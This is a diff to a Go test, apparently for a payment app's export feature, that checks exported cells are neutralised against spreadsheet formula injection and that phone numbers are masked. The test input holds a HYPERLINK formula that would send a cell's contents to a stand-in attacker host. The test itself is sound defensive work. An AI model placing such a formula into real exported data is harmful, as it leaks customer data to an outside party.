@@ -41,7 +41,7 @@ func (w *world) table(r reply) []map[string]string {
 func TestWhatIsFoundIsTakenAwayAsAFile(t *testing.T) {
 	w := open(t)
 	formula := `=HYPERLINK("http://evil.example?"&A1,"click")`
-	first := w.opened(w.ada, `,"customerName":`+fmt.Sprintf("%q", formula)+`,"customerPhone":"08031234567","reference":"-1182","description":"+two, \"quoted\""`)
+	first := w.opened(w.ada, `,"customerName":`+fmt.Sprintf("%q", formula)+`,"customerPhone":"08031234567","reference":"-A1182","description":"+two, \"quoted\""`)
 	for range 210 { // more than are read at once
 		w.opened(w.ada, "")
 	}
@@ -62,7 +62,7 @@ func TestWhatIsFoundIsTakenAwayAsAFile(t *testing.T) {
 	}
 	got := rows[slices.IndexFunc(rows, func(row map[string]string) bool { return row["session"] == first })]
 	for column, want := range map[string]string{
-		"session": first, "customer": "'" + formula, "reference": "'-1182", "description": "'+two, \"quoted\"", "phone": "234•••••4567", "amount_naira": "5000.00",
+		"session": first, "customer": "'" + formula, "reference": "'-A1182", "description": "'+two, \"quoted\"", "phone": "234•••••4567", "amount_naira": "5000.00",
 		"amount_kobo": "500000", "paid_naira": "0.00", "paid_kobo": "0", "paid_at": "", "status": "PENDING", "project": "Ada Stores", "currency": "NGN",
 	} {
 		if got[column] != want {
